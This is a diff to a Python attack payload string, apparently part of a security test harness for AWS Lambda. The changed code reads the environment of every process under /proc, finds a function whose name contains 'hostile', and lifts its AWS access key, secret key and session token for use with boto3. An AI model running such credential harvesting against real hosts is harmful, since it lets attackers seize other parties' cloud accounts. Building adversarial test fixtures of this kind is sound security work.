@@ -12,7 +12,15 @@ ATTACK = """
 import json, os, sys
 import boto3
 told = json.loads(sys.argv[1])
-own = dict(entry.split("=", 1) for entry in open(f"/proc/{os.getppid()}/environ").read().split("\\0") if "=" in entry)
+
+def environment(pid):
+    try:
+        return dict(entry.split("=", 1) for entry in open(f"/proc/{pid}/environ").read().split("\\0") if "=" in entry)
+    except OSError:
+        return {}
+
+processes = [environment(pid) for pid in [os.getppid(), *os.listdir("/proc")] if str(pid).isdigit()]
+own = next(one for one in processes if "-project-" in (name := one.get("AWS_LAMBDA_FUNCTION_NAME", "")) and "hostile" in name)
 place = {"region_name": own["AWS_REGION"], "endpoint_url": own.get("AWS_ENDPOINT_URL")}
 keys = {"aws_access_key_id": own["AWS_ACCESS_KEY_ID"], "aws_secret_access_key": own["AWS_SECRET_ACCESS_KEY"],
         "aws_session_token": own["AWS_SESSION_TOKEN"]}
